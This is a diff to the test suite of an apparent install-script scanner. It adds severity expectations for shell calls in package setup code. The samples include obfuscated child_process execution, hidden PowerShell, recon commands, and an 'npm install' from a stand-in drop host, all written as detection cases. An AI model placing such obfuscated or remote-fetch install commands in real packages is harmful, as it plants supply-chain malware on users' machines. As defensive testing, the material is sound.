@@ -22,8 +22,8 @@ class TestAlarm:
             ("const { spawn: s } = require('child_' + 'process'); s('osascript', ['-e', 'x']);", "osascript -e"),
             ("require('child_process')['ex' + 'ecSync']('whoami && id');", "whoami, id"),
             (
-                "const cp = require('child_process'); const { execFileSync } = cp; execFileSync('npm', ['install', 'x']);",
-                "npm",
+                "const cp = require('child_process'); const { execFileSync } = cp; execFileSync('npm', ['publish']);",
+                "npm publish, npm",
             ),
             ("require('child_process').execSync(`${'po' + 'wershell'} -w hidden -c x`);", "powershell -c"),
             ("process.mainModule.require('child_process').execSync('systeminfo');", "systeminfo"),
@@ -42,7 +42,7 @@ class TestAlarm:
             ("__import__('os').popen('whoami')\n", "whoami"),
             (
                 "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
-                "python -m pip",
+                "python -m pip, pip install",
             ),
             ("import subprocess\nsubprocess.run('bash -c \"docker ps\"', shell=True)\n", "docker"),
             ("import os\nos.execvp('xdg-open', ['xdg-open', 'https://x.example'])\n", "xdg-open"),
@@ -122,6 +122,13 @@ class TestInnocentTwin:
     )
     def test_setup_scripts_that_look_for_a_compiler_or_publish_when_told_are_only_monitored(self, source: str) -> None:
         assert [str(found.severity) for found in findings(install_shell, sdist({"setup.py": source}))] == ["medium"]
+
+    def test_an_installer_that_asks_npm_for_the_package_of_its_platform_is_only_monitored(self) -> None:
+        """The shape of esbuild's second try."""
+        source = "require('child_process').execSync('npm install --loglevel=error --prefer-offline @tool/linux-x64@1.0.0', { stdio: 'pipe' });"
+        assert [str(found.severity) for found in findings(install_shell, installs(source))] == ["medium"]
+        elsewhere = "require('child_process').execSync('npm install https://drop.example/x.tgz');"
+        assert [str(found.severity) for found in findings(install_shell, installs(elsewhere))] == ["high"]
 
     @pytest.mark.parametrize("command", ["node-gyp rebuild", "husky install", "make build", "tsc -p ."])
     def test_commands_are_told_as_the_install_step(self, command: str) -> None:
